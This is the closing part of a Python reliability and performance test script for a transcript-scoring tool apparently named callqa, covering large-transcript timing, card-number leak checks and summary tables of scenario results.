    cache = root / "cache"
    tiny = root / "tiny.txt"
    tiny.write_text(GOOD_TEXT, encoding="utf-8")
    run_cli("score", tiny, "--db", root / "warm.db", env=env_for(cache))  # models converted, heads fitted
    base, base_cpu, base_rss, _, _ = _score_measured(tiny, root, cache, "tiny")
    print(f"  a four-turn call: {base:.1f} s wall, {base_cpu:.1f} s CPU, peak RSS {base_rss:.0f} MB "
          "(start-up: models, rubric, heads)")
    ok = True
    measured = []
    for mb in sizes:
        path = root / f"big-{mb}.txt"
        turns = big_transcript(path, mb)
        wall, cpu, rss, rc, err = _score_measured(path, root, cache, f"big-{mb}")
        leaks = len(RAW_CARD.findall(_all_text(f"sqlite:///{root / f'big-{mb}.db'}"))) if rc in (0, 2) else -1
        print(f"  {mb:>6} MB, {turns:>7,} turns: exit {rc}, {wall:7.1f} s wall, {cpu:7.1f} s CPU, "
              f"peak RSS {rss:6.0f} MB, raw card numbers stored {leaks}", flush=True)
        ok &= rc == 0 and "Traceback" not in err and leaks == 0
        measured.append((mb, wall, cpu, rss))
        path.unlink()
    fit = [m for m in measured if m[0] >= 1] or measured
    if len(fit) >= 2:
        sizes_fit = [m[0] for m in fit]
        k = {"wall": _exponent(sizes_fit, [m[1] for m in fit]),
             "CPU": _exponent(sizes_fit, [m[2] for m in fit]),
             "CPU less start-up": _exponent(sizes_fit, [m[2] - base_cpu for m in fit])}
        print(f"  time ~ size^k over {sizes_fit} MB: " + ", ".join(f"k = {v:.2f} ({n})" for n, v in k.items())
              + "; 1 is linear, 2 quadratic")
        BIG_ROWS.append((measured, base, base_cpu, k))
        ok &= k["CPU less start-up"] < 1.3
    return ok


BIG_ROWS: list[tuple] = []


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--transcripts", type=int, default=300, help="transcript files per scenario (a-c)")
    parser.add_argument("--only", nargs="+", choices=list("abcde"), default=list("abcde"), help="scenarios to run")
    parser.add_argument("--sizes", nargs="+", type=float, default=[0.25, 1, 2, 5],
                        help="(e): transcript sizes in MB (the limit refuses > 50)")
    parser.add_argument("--postgres", metavar="URL", help="(d) on this PostgreSQL database too (its tables are dropped)")
    parser.add_argument("--keep", action="store_true", help="keep the temporary folders (printed)")
    args = parser.parse_args()
    print(f"callqa reliability, {os.cpu_count()} cores, load average {os.getloadavg()[0]:.1f}")
    ok = []
    tmp = Path(tempfile.mkdtemp(prefix="callqa-reliability-"))
    scenarios = {"a": (broken_files, args.transcripts), "b": (killed_and_rerun, args.transcripts),
                 "c": (two_writers, args.transcripts, args.transcripts // 3), "d": (bad_input, args.postgres),
                 "e": (big_transcripts, args.sizes)}
    try:
        for name in args.only:
            scenario, *params = scenarios[name]
            root = tmp / name
            root.mkdir()
            ok.append(scenario(root, *params))
    finally:
        if args.keep:
            print(f"kept {tmp}")
        else:
            shutil.rmtree(tmp, ignore_errors=True)
    print()
    if ROWS:
        print(f"{'scenario':<20} {'files':>6} {'scored':>7} {'failed':>7} {'unrecorded':>11} {'duplicates':>11} "
              f"{'missing':>8} {'wall s':>7}")
        for scenario, files, scored, failed, unrecorded, dup, missing, wall, _ in ROWS:
            print(f"{scenario:<20} {files:>6} {scored:>7} {failed:>7} {unrecorded:>11} {dup:>11} {missing:>8} "
                  f"{wall:>7.1f}")
        print("(unrecorded: a broken file that is in no error row and no call; see the (a) list above)\n")
    if BAD_ROWS:
        print(f"{'(d) bad input':<20} {'kinds':>6} {'hold':>6} {'rows lost':>10} {'leaks':>6} {'tracebacks':>11}")
        for db, kinds, holds, lost, leaks, tracebacks in BAD_ROWS:
            print(f"{db:<20} {kinds:>6} {holds:>6} {lost:>10} {leaks:>6} {tracebacks:>11}")
        print("(kinds: files of the batch; the commands given bad input are listed under (d) above)\n")
    for measured, base, base_cpu, k in BIG_ROWS:
        print(f"{'(e) transcript MB':<20} {'wall s':>8} {'CPU s':>8} {'peak RSS MB':>12}")
        print(f"{'start-up (4 turns)':<20} {base:>8.1f} {base_cpu:>8.1f}")
        for mb, wall, cpu, rss in measured:
            print(f"{mb:<20} {wall:>8.1f} {cpu:>8.1f} {rss:>12.0f}")
        print("time growth exponent (>= 1 MB): " + ", ".join(f"{v:.2f} {n}" for n, v in k.items()) + " (1 = linear)\n")
    print("all properties hold" if all(ok) else "A PROPERTY DOES NOT HOLD: see above")
    return 0 if all(ok) else 1


if __name__ == "__main__":
    sys.exit(main())
